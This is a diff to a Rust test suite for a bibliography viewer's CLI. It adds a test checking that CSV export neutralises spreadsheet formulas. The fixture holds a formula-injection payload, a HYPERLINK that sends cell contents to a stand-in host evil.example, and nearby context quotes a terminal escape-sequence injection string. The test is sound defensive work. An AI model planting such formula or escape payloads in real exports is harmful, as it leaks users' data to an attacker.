@@ -253,6 +253,24 @@ fn json_output_escapes_what_it_is_given() {
     assert!(!text.contains('\u{1b}') && text.contains("\\u001b]0;you were pwned\\u0007"), "{text}");
 }
 
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_get_a_quote_in_front() {
+    let directory = tempfile::tempdir().unwrap();
+    let file = directory.path().join("formula.ris");
+    let title = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";
+    std::fs::write(&file, format!("TY  - JOUR\nTI  - {title}\nAU  - @SUM(1+1)\nPY  - 2020\nER  - \n")).unwrap();
+    let cells = |args: &[&str]| -> Vec<String> {
+        let output = lenaview(args, std::slice::from_ref(&file));
+        assert_eq!(output.status.code(), Some(0));
+        let mut reader = csv::Reader::from_reader(output.stdout.as_slice());
+        reader.records().next().unwrap().unwrap().iter().map(str::to_string).collect()
+    };
+    let guarded = cells(&["export", "--format", "csv"]);
+    assert_eq!((guarded[1].as_str(), guarded[2].as_str()), (format!("'{title}").as_str(), "'@SUM(1+1)"));
+    let kept = cells(&["export", "--format", "csv", "--csv-formulas"]);
+    assert_eq!((kept[1].as_str(), kept[2].as_str()), (title, "@SUM(1+1)"));
+}
+
 fn render(app: &App, width: u16, height: u16) -> String {
     let mut terminal = Terminal::new(TestBackend::new(width, height)).unwrap();
     terminal.draw(|frame| frame.render_widget(app, frame.area())).unwrap();
